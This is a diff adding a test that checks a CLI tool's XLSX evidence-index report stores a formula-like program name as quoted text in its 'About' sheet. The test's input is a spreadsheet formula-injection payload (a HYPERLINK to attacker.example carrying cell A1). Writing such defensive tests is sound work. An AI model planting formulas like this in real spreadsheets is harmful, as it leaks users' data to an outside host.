@@ -63,3 +63,21 @@ def test_non_utf8_file_name_does_not_stop_a_report(
     result = cli.invoke(app, [*args, "-o", str(out)])
     assert result.exit_code == 0, result.output
     assert out.stat().st_size > 0
+
+
+def test_xlsx_about_sheet_shows_a_formula_program_name_as_text(
+    make_repo: MakeRepo, cli: CliRunner, tmp_path: Path
+) -> None:
+    from openpyxl import load_workbook
+
+    program = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'
+    root = make_repo({"ciptool.yaml": f"program: '{program}'\n"})
+    out = tmp_path / "index.xlsx"
+    args = ["report", "evidence-index", "--repo", str(root), *AS_OF, *GENERATED, "-f", "xlsx"]
+    result = cli.invoke(app, [*args, "-o", str(out)])
+    assert result.exit_code == 0, result.output
+    about = load_workbook(out)["About"]
+    cell = about["B2"]
+    assert (about["A2"].value, cell.value) == ("Program", program.replace("''", "'"))
+    assert cell.data_type == "s"
+    assert cell.quotePrefix
